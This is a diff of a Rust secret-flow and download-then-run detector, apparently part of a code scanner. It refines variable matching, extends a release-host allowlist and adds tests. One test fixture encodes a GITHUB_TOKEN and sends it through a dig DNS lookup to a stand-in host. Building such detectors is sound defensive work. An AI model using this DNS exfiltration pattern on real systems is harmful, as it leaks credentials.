@@ -326,18 +326,21 @@ fn statements(code: &str) -> Vec<(u32, String)> {
     out
 }
 
-/// Whether `line` uses variable `var` (as a word, `$var`, `${var}`).
+/// Whether `line` uses variable `var` (as a word, `$var`, `${var}`). A word of a hyphenated name (`key` in
+/// `"x-api-key"`) or an attribute (`cfg.key`) is another thing of the same name.
 pub(super) fn mentions(line: &str, var: &str) -> bool {
-    line.match_indices(var)
-        .any(|(at, _)| whole_word(line, at, var.len()) && !line[..at].trim_end().ends_with("def"))
-        && ASSIGN
-            .captures(line)
-            .is_none_or(|c| &c[1] != var || line.matches(var).count() > 1)
+    line.match_indices(var).any(|(at, _)| {
+        whole_word(line, at, var.len())
+            && !line[..at].ends_with(['-', '.'])
+            && !line[..at].trim_end().ends_with("def")
+    }) && ASSIGN
+        .captures(line)
+        .is_none_or(|c| &c[1] != var || line.matches(var).count() > 1)
 }
 
 re!(
     RELEASE_HOST,
-    r"(?i)https://(github\.com/[\w.-]+/[\w.-]+/releases/|raw\.githubusercontent\.com/[\w.-]+/[\w.-]+/|objects\.githubusercontent\.com/|gitlab\.com/[\w./-]+/-/releases/|dl\.google\.com/|storage\.googleapis\.com/|releases\.hashicorp\.com/|get\.helm\.sh/|dl\.k8s\.io/|nodejs\.org/dist/|www\.python\.org/ftp/|static\.rust-lang\.org/)"
+    r"(?i)https://(github\.com/[\w.-]+/[\w.-]+/releases/|raw\.githubusercontent\.com/[\w.-]+/[\w.-]+/|objects\.githubusercontent\.com/|gitlab\.com/[\w./-]+/-/releases/|dl\.google\.com/|storage\.googleapis\.com/|releases\.hashicorp\.com/|bootstrap\.pypa\.io/|get\.helm\.sh/|dl\.k8s\.io/|nodejs\.org/dist/|www\.python\.org/ftp/|static\.rust-lang\.org/)"
 );
 
 /// Start-up files of the scheduler kind: a launch agent, a user service, a cron table, an autostart entry.
@@ -501,8 +504,9 @@ pub(super) fn download_then_run(code: &str, first_line: u32) -> Option<(u32, u32
                     let mut words = cmd.split_whitespace();
                     let first = words.next().unwrap_or_default();
                     let second = words.next().unwrap_or_default();
+                    // A download's address continued on the next line is not a run of it.
                     first == file
-                        || first.ends_with(&format!("/{name}"))
+                        || first.ends_with(&format!("/{name}")) && !first.contains("://")
                         || (matches!(
                             first,
                             "bash" | "sh" | "zsh" | "python" | "python3" | "node" | "source" | "."
@@ -693,6 +697,18 @@ mod tests {
         assert_eq!(secret_flows(py, 1), vec![]);
         let params = "key = os.environ.get(\"OPENWEATHER_API_KEY\")\nr = requests.get(API, params={\"q\": city, \"appid\": key}, timeout=10)\n";
         assert!(secret_flows(params, 1).is_empty());
+        // `key` in a header's name is not the variable `key`: the request built from another name carries nothing.
+        let header = "key = os.environ.get(\"ANTHROPIC_API_KEY\")\napi_key = load()\nreq = Request(url, data=body, headers={\"x-api-key\": api_key})\nurlopen(req)\n";
+        assert!(
+            secret_flows(header, 1).is_empty(),
+            "{:?}",
+            secret_flows(header, 1)
+        );
+        let sent = "key = os.environ.get(\"ANTHROPIC_API_KEY\")\nreq = Request(url, data=key.encode(), headers={\"x-api-key\": other})\nurlopen(req)\n";
+        assert_eq!(
+            secret_flows(sent, 1),
+            vec![(1, "a secret environment variable", 3)]
+        );
         let js = "const url = `https://www.google.com/recaptcha/api/siteverify?secret=${SECRET_KEY}&response=${t}`;\nconst r = await fetch(url);\n";
         assert!(secret_flows(js, 1).is_empty());
         let dns = "secret = os.environ[\"GITHUB_TOKEN\"]\nencoded = base64.b32encode(secret.encode()).decode()\nos.popen(f\"dig {encoded}.x.invalid\")\n";
